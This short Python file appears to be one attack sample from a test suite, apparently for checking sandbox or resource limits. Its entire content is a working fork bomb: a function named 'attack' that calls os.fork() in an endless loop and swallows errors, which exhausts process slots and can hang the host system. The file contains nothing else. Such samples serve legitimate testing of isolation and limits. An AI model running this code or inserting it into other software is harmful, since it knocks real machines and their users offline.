"""A fork bomb."""

# %% attack
import os


def attack(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
